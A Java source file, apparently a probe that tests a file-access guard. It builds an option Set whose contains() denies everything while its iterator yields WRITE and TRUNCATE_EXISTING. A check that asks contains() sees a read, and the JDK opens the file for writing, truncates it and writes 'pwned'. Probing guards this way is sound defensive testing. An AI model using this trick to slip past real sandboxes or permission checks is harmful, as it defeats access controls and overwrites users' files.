package dev.inlay.probe;

import java.nio.ByteBuffer;
import java.nio.channels.SeekableByteChannel;
import java.nio.file.Files;
import java.nio.file.OpenOption;
import java.nio.file.Path;
import java.nio.file.StandardOpenOption;
import java.util.AbstractSet;
import java.util.Iterator;
import java.util.List;

/**
 * Opens a file with a Set of options whose contains() answers "no" to everything while its iterator yields WRITE and
 * TRUNCATE_EXISTING: a check that asks contains() sees a read, the JDK that iterates opens for writing. Prints OPEN
 * (and overwrites the file) or BLOCKED.
 */
public final class LyingOpenOptions {
    private LyingOpenOptions() {}

    static final class LyingSet extends AbstractSet<OpenOption> {
        @Override
        public boolean contains(Object o) {
            return false;
        }

        @Override
        public Iterator<OpenOption> iterator() {
            return List.<OpenOption>of(StandardOpenOption.WRITE, StandardOpenOption.TRUNCATE_EXISTING)
                    .iterator();
        }

        @Override
        public int size() {
            return 2;
        }
    }

    public static void main(String[] args) throws Exception {
        Path target = Path.of(args[0]);
        for (String way : List.of("Files.newByteChannel", "FileChannel.open")) {
            try (SeekableByteChannel ch = way.equals("FileChannel.open")
                    ? java.nio.channels.FileChannel.open(target, new LyingSet())
                    : Files.newByteChannel(target, new LyingSet())) {
                ch.write(ByteBuffer.wrap("pwned".getBytes()));
                System.out.println(way + " OPEN");
            } catch (SecurityException e) {
                System.out.println(way + " BLOCKED " + e.getMessage());
            }
        }
    }
}
